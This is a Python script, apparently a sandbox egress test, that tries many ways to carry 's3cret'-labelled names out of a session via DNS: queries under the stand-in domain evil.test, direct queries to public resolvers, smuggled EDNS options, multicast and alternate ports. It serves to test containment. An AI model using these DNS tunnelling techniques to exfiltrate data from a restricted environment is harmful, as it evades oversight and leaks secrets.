"""Runs inside a session and tries to get labels of its own choosing to any DNS server; prints what came back."""
import socket
import struct
import sys

KINDS = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "NAPTR": 35,
         "DS": 43, "DNSKEY": 48, "SVCB": 64, "HTTPS": 65, "AXFR": 252, "ANY": 255, "CAA": 257, "unknown": 65280}
SERVERS = ("127.0.0.1", "93.184.216.66", "8.8.8.8", "10.9.8.7")
asked = []


def question(name, kind, more=b"", flags=0x0100, klass=1):
    wire = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", 7, flags, 1, 0, 0, 1 if more else 0) + wire + struct.pack("!HH", kind, klass) + more


def udp(server, port, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(data, (server, port))
        answer = s.recv(4096)
        return "rcode %d answers %d" % (answer[3] & 15, struct.unpack("!H", answer[6:8])[0])
    except OSError as e:
        return type(e).__name__
    finally:
        s.close()


def tcp(server, port, data):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((server, port))
        s.sendall(struct.pack("!H", len(data)) + data)
        answer = s.recv(4096)
        return "rcode %d" % (answer[5] & 15) if len(answer) > 5 else "closed"
    except OSError as e:
        return type(e).__name__
    finally:
        s.close()


def label(n):
    name = "s3cret%d" % n
    asked.append(name)
    return name


n = 0
for kind in KINDS.values():
    for parent in ("evil.test", "allowed.test"):
        n += 1
        print(kind, parent, udp("127.0.0.1", 53, question(label(n) + "." + parent, kind)))
for server in SERVERS:
    for ask in (udp, tcp):
        n += 1
        print(server, ask.__name__, ask(server, 53, question(label(n) + ".evil.test", 1)))
edns = b"\0" + struct.pack("!HHIH", 41, 4096, 0, 12) + struct.pack("!HH", 65001, 8) + b"s3cretop"
for data in (question(label(900) + ".evil.test", 1, edns), question(label(901) + ".evil.test", 1, flags=0x2900),
             question(label(902) + ".evil.test", 1, klass=3), question(".".join([label(903) + "x" * 50] * 4), 16),
             question(label(904) + ".arpa", 12), question(label(905), 1)):
    print("odd", udp("127.0.0.1", 53, data))
for port in (853, 5353, 5355, 443):
    for server in ("93.184.216.66", "224.0.0.251", "224.0.0.252"):
        print(server, port, udp(server, port, question(label(n := n + 1) + ".local", 1)),
              tcp(server, port, question(label(n := n + 1) + ".local", 1)))
for i in range(5):
    try:
        socket.getaddrinfo(label(950 + i) + ".evil.test", 443)
    except OSError as e:
        print("getaddrinfo", e.errno)
print("ASKED", len(asked))
sys.stdout.flush()
